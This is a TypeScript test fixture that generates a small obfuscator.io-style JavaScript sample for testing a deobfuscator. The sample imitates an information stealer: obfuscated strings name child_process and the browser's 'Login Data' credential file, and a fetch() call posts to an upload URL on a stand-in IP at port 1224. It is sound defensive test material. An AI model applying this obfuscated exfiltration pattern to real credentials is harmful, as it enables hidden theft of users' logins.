/**
 * A small obfuscator.io-shaped program for the deobfuscator's tests: string array, rotation loop (ends at once: index 3
 * holds '1'), accessor, and a stealer's strings (child_process, Login Data, an upload URL on `host`, port 1224).
 */
export const obfuscatedSample = (host = '203.0.113.9'): string =>
  [
    `function _0x1b2c(){const _0x5a1f3e=['child_process','Login\\x20Data','http://${host}:1224/uploads','1'];_0x1b2c=function(){return _0x5a1f3e;};return _0x1b2c();}`,
    'function _0x4e7a(_0x2d8f11,_0x3c9a22){const _0x1b2c33=_0x1b2c();return _0x4e7a=function(_0x4e7a44,_0x1a2b55){_0x4e7a44=_0x4e7a44-0x0;let _0x5c6d66=_0x1b2c33[_0x4e7a44];return _0x5c6d66;},_0x4e7a(_0x2d8f11,_0x3c9a22);}',
    "(function(_0x3a1b77,_0x2c4d88){const _0x5e6f99=_0x4e7a,_0x1a2baa=_0x3a1b77();while(!![]){try{const _0x4c5dbb=parseInt(_0x5e6f99(0x3));if(_0x4c5dbb===_0x2c4d88)break;else _0x1a2baa['push'](_0x1a2baa['shift']());}catch(_0x3e4fcc){_0x1a2baa['push'](_0x1a2baa['shift']());}}}(_0x1b2c,0x1));",
    'const _0x2f3a01=require(_0x4e7a(0x0));fetch(_0x4e7a(0x2),{body:_0x4e7a(0x1)});\n',
  ].join('');
